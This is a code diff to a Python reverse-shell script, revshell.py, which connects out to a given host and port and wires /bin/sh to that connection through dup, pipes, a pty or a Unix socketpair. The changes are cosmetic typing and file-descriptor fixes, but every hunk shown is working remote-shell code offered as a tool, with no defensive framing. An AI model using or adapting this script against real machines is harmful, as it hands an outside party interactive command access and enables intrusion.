@@ -1,4 +1,4 @@
-"""A shell that calls home: `revshell.py HOST PORT dup|pipes|pty|unix`; how its streams are joined is the choice."""
+"""A shell that calls home: `revshell.py HOST PORT dup|pipes|pty|unix`, by how its streams are joined."""
 
 import os
 import pty
@@ -12,13 +12,13 @@ home = socket.create_connection((host, port), timeout=5)
 home.settimeout(8)
 
 
-def carry(read, write):
+def carry(read: int, write: int) -> None:
     """Between the connection and a shell behind file descriptors, until one ends."""
     while True:
-        ready, _, _ = select.select([home, read], [], [], 8)
+        ready, _, _ = select.select([home.fileno(), read], [], [], 8)
         if not ready:
             return
-        if home in ready:
+        if home.fileno() in ready:
             data = home.recv(4096)
             if not data:
                 return
@@ -41,11 +41,12 @@ elif way == "pty":
     carry(master, master)
 elif way == "unix":
     here, there = socket.socketpair()
-    subprocess.Popen(["/bin/sh"], stdin=there, stdout=there, stderr=there)
+    subprocess.Popen(["/bin/sh"], stdin=there.fileno(), stdout=there.fileno(), stderr=there.fileno())
     there.close()
     carry(here.fileno(), here.fileno())
 else:
     shell = subprocess.Popen(
         ["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
     )
+    assert shell.stdin is not None and shell.stdout is not None
     carry(shell.stdout.fileno(), shell.stdin.fileno())
